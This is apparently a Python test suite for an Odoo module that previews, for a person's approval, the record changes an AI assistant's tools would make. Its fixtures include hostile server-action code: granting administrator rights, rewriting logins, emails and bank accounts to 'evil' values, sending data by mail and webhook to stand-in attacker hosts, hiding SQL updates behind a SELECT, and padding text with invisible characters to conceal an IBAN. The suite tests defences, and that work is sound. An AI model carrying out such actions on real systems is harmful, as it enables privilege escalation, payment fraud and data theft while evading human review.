"""Cards of changes: whatever would happen stands there, or is counted there, before anybody says yes."""

import contextlib
import socket
from unittest.mock import patch

import psycopg2
from odoo import Command
from odoo.exceptions import UserError
from odoo.tests import tagged

from ..runtime.records import changes, write
from ..services.records.errors import ConnectionLost, RehearsalDiffers
from ..services.turn.ports import Ending
from ..tools import rehearsal
from .common import ApiCase
from .records_data import PARTNER, RehearsalCase

FLAGS = ("can_create", "can_update", "can_archive", "can_delete", "can_message", "can_schedule")


@tagged("post_install", "-at_install")
class TestRecordsCards(RehearsalCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.internal.group_ids += cls.env.ref("base.group_partner_manager")
        cls.line.write(dict.fromkeys(FLAGS, True))
        cls.tags = cls.assistant.record_access_ids.filtered(
            lambda one: one.model == "res.partner.category"
        )
        cls.tags.write(dict.fromkeys(FLAGS[:4], True))
        cls.azure, cls.brandon = cls.env["res.partner"].create(
            [
                {"name": "Azurite Interior", "street": "Side street 2", "email": "a@example.com"},
                {"name": "Brandon", "email": "brandon@example.com"},
            ]
        )
        cls.env.flush_all()

    def _action(self, code="", **values):
        action = self.env["ir.actions.server"].create(
            {
                "name": "Released",
                "model_id": self.env["ir.model"]._get_id("res.partner"),
                "state": "code",
                "code": code,
                **values,
            }
        )
        self.line.action_ids = [Command.set(action.ids)]
        return action

    def _run(self):
        return self._rehearse("run_action", ids=[self.azure.id], action="Released")

    def _others(self, shown):
        return {(one["model"], one["kind"]): one["count"] for one in shown["others"]}

    # ------------------------------------------------------------ texts

    def test_no_padding_hides_what_follows(self):
        for name, padding in (
            ("blanks", " " * 1300),
            ("no-break", "\xa0" * 1300),
            ("em", "\u2003" * 1300),
            ("zero-width", "\u200b" * 1300),
            ("soft hyphen", "\xad" * 1300),
            ("bidi", "\u202e" * 1300),
            ("braille", "\u2800" * 1300),
            ("lines", "\n" * 1300),
        ):
            with self.subTest(name):
                street = f"Main street 1{padding}IBAN DE00"
                shown = self._rehearse(
                    "update_records", ids=[self.azure.id], values={"street": street}
                )
                told = self._field(shown["changes"][0], "street")["new"]
                self.assertTrue(told.endswith("IBAN DE00"), told)
                self.assertIn("×1300]", told)
                shown = self._rehearse(
                    "post_message", id=self.azure.id, body=f"Thanks!{padding}SECRET"
                )
                told = shown["messages"][0]["body"]
                self.assertRegex(told, "^Thanks!.*SECRET$")

    def test_a_cut_says_how_much_is_left_out(self):
        limit = changes.MAX_TEXT
        comment = "<p>" + "x" * (limit + 12_345) + "</p>"
        shown = self._rehearse(
            "update_records", ids=[self.azure.id], values={"street": comment[3:-4]}
        )
        told = self._field(shown["changes"][0], "street")["new"]
        self.assertTrue(told.endswith("… (12345 more characters)"), told[-60:])
        self.assertTrue(shown["partial"])
        shown = self._rehearse("update_records", ids=[self.azure.id], values={"street": "Short 1"})
        self.assertFalse(shown["partial"])

    def test_who_has_no_room_for_all_says_so(self):
        """The arguments stay open then: they tell what the card does not."""
        lines = [{"name": f"Line {number}"} for number in range(4)]
        values = {"name": "Parent", "child_ids": lines}
        self.assertFalse(self._rehearse("create_record", values=values)["partial"])
        for name, room in (("MAX_RECORDS", 3), ("MAX_FIELDS", 2)):
            with self.subTest(name), patch.object(changes, name, room):
                self.assertTrue(self._rehearse("create_record", values=values)["partial"])
        many = self.env["res.partner"].create([{"name": f"Old {n}"} for n in range(4)])
        self.env.flush_all()
        self.assertFalse(self._rehearse("delete_records", ids=many.ids)["partial"])
        with patch.object(changes, "MAX_RECORDS", 3):
            shown = self._rehearse("delete_records", ids=many.ids)
        self.assertEqual((len(shown["deleted"]), shown["partial"]), (3, True))
        self.assertEqual(self._others(shown)["res.partner", "deleted"], 1)
        (further,) = self.row._further_changes()
        self.assertEqual((further["kind"], further["name"]), ("deleted", "Old 3"))

    def test_what_follows_a_cut_is_compared_too(self):
        body = "x" * (changes.MAX_BODY + 10)
        self._rehearse("post_message", id=self.azure.id, body=body)
        self.row.arguments = {**self.row.arguments, "body": body[:-1] + "y"}
        self.env.flush_all()
        self.assertTrue(self._differs()["shown"]["differs"])

    # ------------------------------------------------------------ fields and rows

    def test_every_field_is_there_and_what_was_named_comes_first(self):
        values = {"website": "http://evil.example", "zip": "1010", "street2": "b", "city": "Oslo"}
        values |= {"ref": "R", "function": "F", "phone": "+32 470 00 00 00", "vat": "BE0477472701"}
        shown = self._rehearse("update_records", ids=[self.azure.id], values=values)
        names = [field["name"] for field in shown["changes"][0]["fields"]]
        self.assertEqual(set(names[: len(values)]), set(values))
        self.assertEqual(shown["changes"][0]["first"], len(values))

    def test_what_is_hidden_from_the_assistant_is_told_to_the_person(self):
        self.line.hidden_fields = "city, complete_name"
        self._action("record.write({'city': 'Oslo', 'name': 'Azurite AS'})")
        (change,) = self._run()["changes"]
        self.assertEqual(self._field(change, "city")["new"], "Oslo")
        self.assertEqual(self._field(change, "complete_name")["new"], "Azurite AS")
        self.assertEqual(change["name"], "Azurite AS")
        self.assertNotIn("more", change)
        result = self._allow()
        self.assertEqual(result.outcome, "ok", result.text)
        self.assertNotIn("Oslo", f"{result.text} {result.display}")

    def test_fields_that_the_person_may_not_read_are_counted(self):
        self.patch(self.env["res.partner"]._fields["city"], "groups", "base.group_system")
        self.addCleanup(self.env.registry.clear_cache)
        self.env.registry.clear_cache()
        self._action("record.sudo().write({'city': 'Oslo', 'street': 'Elsewhere'})")
        (change,) = self._run()["changes"]
        self.assertNotIn("Oslo", str(change))
        self.assertEqual(change["more"], 1)

    def test_parents_come_before_their_lines(self):
        values = {"name": "Parent", "child_ids": [{"name": "Line 1"}, {"name": "Line 2"}]}
        shown = self._rehearse("create_record", values=values)
        self.assertEqual(
            [one["fields"][0]["new"] for one in shown["created"]], ["Parent", "Line 1", "Line 2"]
        )

    def test_links_of_what_is_created_are_told(self):
        tag = self.env["res.partner.category"].create({"name": "Wholesale"})
        self.env.flush_all()
        shown = self._rehearse(
            "create_record", values={"name": "New", "category_id": ["Wholesale"]}
        )
        self.assertEqual(self._field(shown["created"][0], "category_id")["new"], "Wholesale")
        self.assertEqual(self._allow().outcome, "ok")
        self.assertEqual(self.env["res.partner"].search([("name", "=", "New")]).category_id, tag)

    def test_what_the_database_deletes_by_itself_is_told(self):
        Tag = self.env["res.partner.category"]
        parent = Tag.create({"name": "Parent"})
        children = Tag.create([{"name": f"Child {n}", "parent_id": parent.id} for n in range(5)])
        self.azure.category_id = children[0]
        self.env.flush_all()
        shown = self._rehearse("delete_records", model="res.partner.category", ids=[parent.id])
        names = [one["name"] for one in shown["deleted"]]
        self.assertEqual(len(names), 6, names)
        self.assertEqual(
            self._others(shown), {("res_partner_res_partner_category_rel", "deleted"): 1}
        )
        self.assertEqual(self._allow().outcome, "ok")
        self.assertFalse((parent | children).exists())

    def test_what_the_database_empties_by_itself_is_told(self):
        industry = self.env["res.partner.industry"].create({"name": "Mining"})
        self.azure.industry_id = industry
        self._action(f"env['res.partner.industry'].sudo().browse({industry.id}).unlink()")
        self.env.flush_all()
        shown = self._run()
        field = self._field(shown["changes"][0], "industry_id")
        self.assertIsNone(field["new"])
        self.assertEqual(self._allow().outcome, "ok")

    def test_deleted_records_that_the_person_may_not_read_are_counted(self):
        hidden = self.env["res.partner"].create({"name": "SECRETNAME"})
        self.env["ir.rule"].create(
            {
                "name": "Not the hidden one",
                "model_id": self.env["ir.model"]._get_id("res.partner"),
                "domain_force": f"[('id', '!=', {hidden.id})]",
            }
        )
        self._action(f"env['res.partner'].sudo().browse({hidden.id}).unlink()")
        self.env.flush_all()
        shown = self._run()
        self.assertNotIn("SECRETNAME", str(shown))
        self.assertEqual(self._others(shown)["res.partner", "deleted"], 1)

    # ------------------------------------------------------------ what a released action may do

    def test_what_has_no_records_of_its_own_is_counted(self):
        for code, key in (
            (
                "env['ir.config_parameter'].sudo().set_param('x.y', '1')",
                ("ir.config_parameter", "created"),
            ),
            (f"record.message_subscribe([{self.brandon.id}])", ("mail.followers", "created")),
            (
                "env['ir.attachment'].create({'name': 'a', 'raw': b'x', 'res_model': 'res.partner',"
                " 'res_id': record.id})",
                ("ir.attachment", "created"),
            ),
        ):
            with self.subTest(key):
                self._action(code)
                shown = self._run()
                self.assertEqual(self._others(shown).get(key), 1, shown["others"])
                self.assertEqual(shown["hidden"], sum(one["count"] for one in shown["others"]))
                self.assertEqual(self._allow().outcome, "ok")

    def test_a_right_that_is_given_is_told(self):
        admin = self.env.ref("base.group_system")
        self._action(f"user.sudo().write({{'group_ids': [(4, {admin.id})]}})")
        shown = self._run()
        told = [one for one in shown["changes"] if one["model"] == "res.users"]
        self.assertTrue(told and (told[0]["fields"] or told[0]["more"]), shown)

    def test_a_mail_to_a_stranger_is_told(self):
        self._action(
            "env['mail.mail'].sudo().create({'subject': 'Hi', 'email_to': 'evil@example.net',"
            " 'body_html': '<p>All of it</p>'})"
        )
        shown = self._run()
        (mail,) = shown["messages"]
        self.assertEqual((mail["kind"], mail["recipients"]), ("mail", ["evil@example.net"]))
        self.assertEqual(mail["body"], "All of it")

    def test_mails_beside_their_message_are_told(self):
        """Of one that is there already, of one that is sent with another text to somebody else, and each of several."""
        old = self.azure.message_post(body="Said long ago", message_type="comment")
        mail = "env['mail.mail'].sudo().create"
        for code, texts in (
            (
                f"{mail}({{'mail_message_id': {old.id}, 'email_to': 'x@evil.example', 'body_html': 'One'}})",
                ["One"],
            ),
            (
                f"one = {mail}({{'subject': 'S', 'email_to': 'x@evil.example', 'body_html': 'One'}})\n"
                f"{mail}({{'mail_message_id': one.mail_message_id.id, 'email_to': 'y@evil.example',"
                " 'body_html': 'Two'})",
                ["One", "Two"],
            ),
            (
                "one = record.message_post(body='Harmless')\n"
                f"{mail}({{'mail_message_id': one.id, 'email_to': 'x@evil.example',"
                " 'body_html': 'Harmless, but not all of it'})",
                ["Harmless", "Harmless, but not all of it"],
            ),
        ):
            with self.subTest(code):
                self._action(code)
                shown = self._run()
                self.assertEqual(sorted(one["body"] for one in shown["messages"]), texts)
                told = {to for one in shown["messages"] for to in one["recipients"]}
                self.assertIn("x@evil.example", told)
                self.assertEqual(len(told), len(texts) - ("Harmless" in texts))
                action = self.line.action_ids
                action.code = code.replace("One", "Other").replace("but not", "and")
                self.env.flush_all()
                self.assertNotEqual(self._differs()["shown"]["messages"], shown["messages"])

    def test_what_files_hold_is_compared(self):
        """Of texts what is compared of texts, of others their checksum."""
        for name, content in (
            ("a.txt", "record.ref.encode()"),
            ("a.bin", "b'\\x00' + record.ref.encode()"),
        ):
            for code in (
                f"env['ir.attachment'].create({{'name': '{name}', 'raw': {content}, 'res_model': 'res.partner',"
                " 'res_id': record.id})",
                f"record.message_post(body='See', attachments=[('{name}', {content})])",
            ):
                with self.subTest(code):
                    self.azure.ref = "R-1"
                    self._action(code)
                    self.env.flush_all()
                    self._run()
                    self.azure.ref = "R-2"
                    self.env.flush_all()
                    self._differs()
                    self.azure.ref = "R-1"
                    self.env.flush_all()
                    self.assertEqual(self._allow().outcome, "ok")

    def test_a_request_after_the_commit_is_told_and_asks_although_changes_run(self):
        self._action(
            state="webhook",
            webhook_url="https://evil.example/hook?key=KEY",
            webhook_field_ids=[Command.set(self.env.ref("base.field_res_partner__name").ids)],
        )
        shown = self._run()
        self.assertEqual(shown["outward"], [{"kind": "request", "what": "https://evil.example"}])
        self.assertNotIn("KEY", str(shown))
        self.assertTrue(shown["partial"])
        self.line.policy = "auto"
        self._asks_although_it_runs()

    def test_statements_of_others_are_told_and_ask_although_changes_run(self):
        self._action("env.cr.execute('UPDATE res_partner SET city = %s', ['Oslo'])")
        shown = self._run()
        told = [one for one in shown["others"] if one.get("unknown")]
        self.assertEqual(
            [(one["model"], one["kind"]) for one in told], [("res.partner", "changed")]
        )
        self.line.policy = "auto"
        self._asks_although_it_runs()
        self.assertNotEqual(self.azure.city, "Oslo")

    def test_a_statement_behind_one_that_reads_is_one_of_others(self):
        self._action("env.cr.execute('SELECT 1; UPDATE res_partner SET city = %s', ['Oslo'])")
        told = [one for one in self._run()["others"] if one.get("unknown")]
        self.assertEqual(
            [(one["model"], one["kind"]) for one in told], [("res.partner", "changed")]
        )
        self.line.policy = "auto"
        self._asks_although_it_runs()

    def test_a_statement_about_what_is_told_anyway_is_not_unknown(self):
        self._action(
            "record.write({'ref': 'R'})\nrecord.flush_recordset()\n"
            "env.cr.execute('UPDATE res_partner SET city = %s WHERE id = %s', ['Oslo', record.id])"
        )
        shown = self._run()
        self.assertEqual(self._field(shown["changes"][0], "city")["new"], "Oslo")
        self.assertEqual(shown["others"], [])

    def _asks_although_it_runs(self):
        arguments = {**PARTNER, "ids": [self.azure.id], "action": "Released"}
        call, verdict = self._begin(self.internal, "run_action", arguments)
        self.assertEqual(verdict.kind, "run")
        claim = self.claims[self.internal]
        try:
            self.store.perform_call(claim, call.id, [])
            self.fail("It was committed.")
        except RehearsalDiffers as error:
            self.store.ask_again(claim, call.id, error.rehearsal)
        self.env.invalidate_all()
        row = self.env["woow_paas_platform.tool_call"].search([("call_id", "=", call.id)])
        self.assertEqual(
            (row.approval, row.approval_choices), ("pending", ["approve_once", "deny"])
        )
        self.assertEqual(self.store.begin_call(claim, call).kind, "ask")
        self.row, self.call = row, call
        self.assertNotIn("differs", row._approval_event()["rehearsal"])

    def test_a_refusal_that_other_code_turns_into_a_sentence_asks_although_changes_run(self):
        """As Odoo's integrations do with what their requests raise."""

        def connects(scope, given):
            try:
                socket.create_connection(("127.0.0.1", 9), 0.01)
            except Exception as error:
                raise UserError("The service cannot be reached.") from error

        self._action("pass")
        self.line.policy = "auto"
        with patch.dict(write.TOOLS, run_action=connects):
            self._asks_although_it_runs()
        self.assertIn("the network", self.row._approval_event()["rehearsal"]["impossible"])

    def test_where_postgresql_counts_no_rows_every_change_asks(self):
        """Cascades, and statements of others, would be silent."""
        self.assertTrue(rehearsal.counts(self.env.cr))
        self.env.cr.execute("SET LOCAL track_counts = off")
        self.addCleanup(self.env.cr.execute, "SET LOCAL track_counts = on")
        shown = self._rehearse("update_records", ids=[self.azure.id], values={"city": "Oslo"})
        self.assertEqual(shown["outward"], [{"kind": "uncounted", "what": "track_counts"}])
        self.assertTrue(shown["partial"])
        self._action("record.write({'city': 'Bergen'})")
        self.line.policy = "auto"
        self._asks_although_it_runs()

    def test_what_is_known_runs_unasked(self):
        self.line.policy = "auto"
        call, verdict = self._begin(
            self.internal,
            "update_records",
            {**PARTNER, "ids": [self.azure.id], "values": {"city": "Oslo"}},
        )
        self.assertEqual(verdict.kind, "run")
        self.store.perform_call(self.claims[self.internal], call.id, [])
        self.env.invalidate_all()
        self.assertEqual(self.azure.city, "Oslo")

    # ------------------------------------------------------------ names of what is counted, and ways out

    def _told_of(self, shown, model):
        return next(one for one in shown["others"] if one["model"] == model)

    def test_what_is_counted_is_named_as_far_as_the_person_may_read_it(self):
        secret = self.env["res.partner"].create({"name": "Secret Follower"})
        self.env["ir.rule"].create(
            {
                "name": "Not the secret one",
                "model_id": self.env["ir.model"]._get_id("res.partner"),
                "domain_force": f"[('id', '!=', {secret.id})]",
            }
        )
        for code, model, names in (
            (
                f"record.sudo().message_subscribe([{self.brandon.id}, {secret.id}])",
                "mail.followers",
                ["Brandon", "(no access)"],
            ),
            (
                "env['ir.attachment'].create({'name': 'Price\u200blist.pdf', 'raw': b'x', 'res_model': 'res.partner',"
                " 'res_id': record.id})",
                "ir.attachment",
                ["Price[U+200B]list.pdf"],
            ),
            ("env['ir.config_parameter'].sudo().set_param('x.y', '1')", "ir.config_parameter", []),
            ("env['res.groups'].sudo().create({'name': 'Robbers'})", "res.groups", ["Robbers"]),
        ):
            with self.subTest(model):
                self._action(code)
                one = self._told_of(self._run(), model)
                self.assertCountEqual(one.get("names", []), names)
        self.internal.group_ids += self.env.ref("base.group_system")
        self._action("env['ir.config_parameter'].sudo().set_param('x.y', '1')")
        self.assertEqual(self._told_of(self._run(), "ir.config_parameter")["names"], ["x.y"])

    def test_a_file_that_is_deleted_is_named(self):
        file = self.env["ir.attachment"].create(
            {"name": "a.txt", "raw": b"x", "res_model": "res.partner", "res_id": self.azure.id}
        )
        self._action(f"env['ir.attachment'].browse({file.id}).unlink()")
        self.assertEqual(self._told_of(self._run(), "ir.attachment")["names"], ["a.txt"])

    def test_ways_out_come_first_and_are_marked(self):
        user = self.env["res.users"].create(
            {"name": "Zoe", "login": "zoe", "email": "zoe@a.example"}
        )
        bank = self.env["res.partner.bank"].create(
            {"acc_number": "BE00", "partner_id": self.azure.id}
        )
        self.internal.group_ids += self.env.ref("base.group_system")
        for code, model, names in (
            (
                f"records.write({{'city': 'Oslo', 'street': 'S'}})\n"
                f"env['res.users'].sudo().browse({user.id}).write({{'login': 'evil', 'signature': 'S'}})",
                "res.users",
                ["login"],
            ),
            (
                f"records.write({{'city': 'Oslo'}})\n"
                f"env['res.partner'].sudo().browse({user.partner_id.id}).write("
                "{'email': 'evil@example.net', 'street': 'S'})",
                "res.partner",
                ["email"],
            ),
            (
                f"records.write({{'city': 'Oslo'}})\n"
                f"env['res.partner.bank'].sudo().browse({bank.id}).write({{'acc_number': 'EVIL00'}})",
                "res.partner.bank",
                ["acc_number"],
            ),
            (
                "records.write({'city': 'Oslo'})\n"
                f"env['res.users'].sudo().browse({user.id}).write("
                f"{{'group_ids': [(4, {self.env.ref('base.group_system').id})]}})",
                "res.users",
                ["group_ids"],
            ),
        ):
            with self.subTest(model, names=names):
                self._action(code)
                change = self._run()["changes"][0]
                self.assertEqual((change["model"], change.get("sensitive")), (model, True))
                self.assertEqual([one["name"] for one in change["fields"]][: len(names)], names)
                self.assertGreaterEqual(change["first"], len(names))
        shown = self._rehearse(
            "update_records", ids=[self.azure.id], values={"email": "b@a.example"}
        )
        self.assertNotIn("sensitive", shown["changes"][0])  # a contact that nobody signs in with

    # ------------------------------------------------------------ recipients

    def test_an_address_that_changes_in_between_is_shown_again(self):
        self.azure.message_subscribe(self.brandon.ids)
        self.env.flush_all()
        shown = self._rehearse("post_message", id=self.azure.id, body="Hello")
        self.assertEqual(shown["messages"][0]["recipients"], ["Brandon <brandon@example.com>"])
        self.brandon.email = "evil@example.net"
        self.env.flush_all()
        differs = self._differs()["shown"]
        self.assertEqual(differs["messages"][0]["recipients"], ["Brandon <evil@example.net>"])

    def test_addresses_that_are_hidden_from_the_assistant_are_told_to_the_person(self):
        self.line.hidden_fields = "email"
        self.azure.message_subscribe(self.brandon.ids)
        self.env.flush_all()
        shown = self._rehearse("post_message", id=self.azure.id, body="Hello")
        self.assertEqual(shown["messages"][0]["recipients"], ["Brandon <brandon@example.com>"])

    # ------------------------------------------------------------ nothing, and what goes wrong

    def test_what_changes_nothing_asks_nobody(self):
        call, verdict = self._begin(
            self.internal,
            "update_records",
            {**PARTNER, "ids": [self.azure.id], "values": {"street": "Side street 2"}},
        )
        self.assertEqual(verdict.kind, "ask")
        said = self._error(self.store.rehearse_call, self.claims[self.internal], call.id)
        self.assertIn("Nothing was changed", said)
        row = self.env["woow_paas_platform.tool_call"].search([("call_id", "=", call.id)])
        self.env.invalidate_all()
        self.assertFalse(row.approval)

    def test_what_cannot_be_found_out_is_said_so_and_is_not_the_fault_of_the_arguments(self):
        logger = "odoo.addons.woow_paas_platform.runtime.records.executor"
        for method in ("_updates", "shown", "digest"):
            with (
                self.subTest(method),
                patch.object(changes.Changes, method, side_effect=TypeError("unhashable")),
                self.assertLogs(logger, "ERROR"),
            ):
                shown = self._rehearse(
                    "update_records", ids=[self.azure.id], values={"city": "Oslo"}
                )
                self.assertIn("cannot be shown in advance", shown["impossible"])

    def test_a_connection_that_is_lost_meanwhile_is_not_what_cannot_be_shown(self):
        """Over a unix socket, where a backend was killed, psycopg2 has no closer class for it."""
        gone = psycopg2.DatabaseError("server closed the connection unexpectedly")
        arguments = {**PARTNER, "ids": [self.azure.id], "values": {"city": "Oslo"}}
        for method in ("_updates", "shown", "digest"):
            with self.subTest(method), patch.object(changes.Changes, method, side_effect=gone):
                call, _verdict = self._begin(self.internal, "update_records", arguments)
                claim = self.claims[self.internal]
                self._error(self.store.rehearse_call, claim, call.id, of=ConnectionLost)
                self.env.invalidate_all()

    def test_what_nobody_can_know_is_said_in_the_language_of_the_person(self):
        needs = {*rehearsal.REFUSED.values(), "a commit of its own", "a transaction of its own"}
        call = self.env["woow_paas_platform.tool_call"].with_context(lang="zh_TW")
        self.env["res.lang"]._activate_lang("zh_TW")
        for what in needs:
            self.assertNotRegex(call._impossible_sentence(what), "[a-z]", what)

    def test_what_could_not_be_shown_is_not_run_again_after_a_crash(self):
        """Something may have left its transaction; of what was shown, nothing has."""
        logger = "odoo.addons.woow_paas_platform.runtime.records.executor"
        values = {"city": "Oslo"}
        for is_shown in (True, False):
            with self.subTest(is_shown=is_shown), contextlib.ExitStack() as broken:
                if not is_shown:
                    broken.enter_context(
                        patch.object(changes.Changes, "shown", side_effect=TypeError)
                    )
                    broken.enter_context(self.assertLogs(logger, "ERROR"))
                self._rehearse("update_records", ids=[self.azure.id], values=values)
                self.row.write({"approval": "approved", "decision": "approve_once"})
                self.env.flush_all()
                verdict = self.store.begin_call(self.claims[self.internal], self.call)
                self.env.invalidate_all()
                self.assertEqual((verdict.kind, bool(self.row.started_at)), ("run", not is_shown))


@tagged("post_install", "-at_install")
class TestRecordsOfACard(RehearsalCase, ApiCase):
    """Pages of what a card has no room for, and the decision on what it shows."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.internal.group_ids += cls.env.ref("base.group_partner_manager")
        cls.line.write(dict.fromkeys(FLAGS, True))
        values = [{"name": f"Many {number:02}", "city": "Graz"} for number in range(40)]
        cls.many = cls.env["res.partner"].create(values)
        cls.env.flush_all()

    def _page(self, **query):
        words = "&".join(f"{name}={value}" for name, value in query.items())
        return self._call("GET", f"/api/ai/turns/{self.row.turn_id.id}/rehearsal?{words}")

    def _move_all(self):
        filters = [{"field": "name", "operator": "=like", "value": "Many %"}]
        values = {"city": "Linz", "street": "Main street 1"}
        return self._rehearse("update_records", filters=filters, count=40, values=values)

    def test_each_of_many_records_is_reached(self):
        shown = self._move_all()
        (listed,) = (one["listed"] for one in shown["others"] if one["model"] == "res.partner")
        self.assertEqual((len(shown["changes"]), listed), (30, 10))
        self._sign_in(self.internal)
        found = []
        for after in (0, 6):
            status, page = self._page(call=self.call.id, after=after, limit=6)
            self.assertEqual((status, page["total"]), (200, 10), page)
            found += page["records"]
        self.assertEqual(
            {one["name"] for one in (*shown["changes"], *found)}, set(self.many.mapped("name"))
        )
        for one in found:
            self.assertEqual(one["kind"], "changed")
            pairs = {field["name"]: (field["old"], field["new"]) for field in one["fields"]}
            self.assertEqual(pairs["city"], ("Graz", "Linz"))
            self.assertEqual(pairs["street"], (None, "Main street 1"))

    def test_nobody_else_reads_them_and_nobody_after_the_decision(self):
        self._move_all()
        self._sign_in(self.stranger)
        self.assertEqual(self._page(call=self.call.id)[0], 404)
        self._sign_in(self.internal)
        self.assertEqual(self._page(call="call_of_another")[0], 404)
        self.assertEqual(self._page()[0], 404)
        self.row.approval = "denied"
        self.env.flush_all()
        self.assertEqual(self._page(call=self.call.id)[0], 404)

    def test_what_they_say_is_capped_and_no_record_is_left_out(self):
        with patch.object(changes, "MAX_KEPT_TEXT", 300), patch.object(changes, "MAX_KEPT", 9):
            self._move_all()
        found = self.row._further_changes()
        self.assertEqual(len(found), 9)
        self.assertTrue(found[0]["fields"])
        self.assertFalse(found[-1]["fields"])
        self.assertGreaterEqual(found[-1]["more"], 2)

    def test_a_decision_on_what_was_shown_before_is_refused(self):
        """A second tab that shows the first question, or a request that is sent twice."""
        self._rehearse("update_records", ids=[self.many[0].id], values={"city": "Oslo"})
        first = self.row._approval_event()["review_hash"]
        self._wait()
        self.assertEqual(self._decide_over_http(shown={self.call.id: first})[0], 200)
        self._go_on()
        self.many[0].city = "Bergen"
        self.env.flush_all()
        claim = self.claims[self.internal]
        self.store.begin_call(claim, self.call)
        self.store.ask_again(claim, self.call.id, self._differs())
        self.env.invalidate_all()
        second = self.row._approval_event()["review_hash"]
        self._wait()
        for late in ({"shown": {self.call.id: first}}, {"shown": {}}, {}):
            for asked in (self.call.id, "all"):
                status, answer = self._decide_over_http(asked, **late)
                self.assertEqual((status, answer["error"]["code"]), (409, "question_changed"))
        self.assertEqual((self.row.turn_id.state, self.row.approval), ("waiting", "pending"))
        self.assertEqual(self._decide_over_http("all", shown={self.call.id: second})[0], 200)
        self._go_on()
        result = self.store.perform_call(self.claims[self.internal], self.call.id, [])
        self.assertEqual(result.outcome, "ok")

    def _wait(self):
        turn = self.row.turn_id
        ending = Ending(state="waiting", next_seq=turn._last_seq() + 1)
        self.store.finish(self.claims[self.internal], ending, [])
        self.env.invalidate_all()

    def _go_on(self):
        self.env.flush_all()
        (self.claims[self.internal],) = self.store.claim("two", 1, 15.0)

    def _decide_over_http(self, asked=None, **values):
        self._sign_in(self.internal)
        body = {"id": asked or self.call.id, "decision": "approve_once", **values}
        path = f"/api/ai/turns/{self.row.turn_id.id}/decision"
        answer = self._call("POST", path, body)
        self.env.invalidate_all()
        return answer
